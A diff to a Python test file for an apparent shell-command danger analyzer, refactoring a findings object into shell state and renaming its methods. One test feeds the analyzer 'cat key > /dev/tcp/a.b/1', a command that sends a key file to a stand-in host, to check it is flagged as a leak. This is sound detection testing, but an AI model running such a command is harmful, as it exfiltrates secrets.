@@ -13,7 +13,6 @@ from feishuperm.danger.interpreter import (
     SECRET,
     Arg,
     Call,
-    Findings,
     Output,
     ShellState,
 )
@@ -113,8 +112,8 @@ def test_what_flows_through_pipes_and_files_is_known() -> None:
     assert flows.pop() == Output(None, "", "nosuch")
     stage.state.run("cat key > /dev/tcp/a.b/1")
     assert flows.pop() == NOTHING and "danger.leak .env → a.b" in stage.notes
-    stage.findings.marks.clear()
-    stage.findings.facts.clear()
+    stage.state.marks.clear()
+    stage.state.facts.clear()
     stage.state.run("cat <<< x | cat; cat <<'E'\n$y\nE\n")
     assert [flow.text for flow in flows] == ["x", "x", "$y\n"]
     stage.state.run("cat get > x; cat < x; ./x; cp x y")
@@ -241,11 +240,12 @@ def test_too_deep_or_too_long_is_unread() -> None:
 
 
 def test_things_are_noted_once_masked_and_bounded() -> None:
-    findings = Findings(lambda text: text.replace("key", "***"))
+    findings = Stage().state
+    findings.mask = lambda text: text.replace("key", "***")
     for what in ("key", "key", "\0", ""):
-        findings.add("danger.keys", what)
+        findings.note("danger.keys", what)
     assert findings.marks == {"danger.keys": ["***", "…"]} and not findings.facts
     for number in range(MAX_WHATS + 5):
-        findings.add("fact.host", f"{number}" * MAX_SHOWN * 9)
+        findings.note("fact.host", f"{number}" * MAX_SHOWN * 9)
     assert len(findings.facts["fact.host"]) == MAX_WHATS
     assert max(map(len, findings.facts["fact.host"])) == MAX_SHOWN * 4
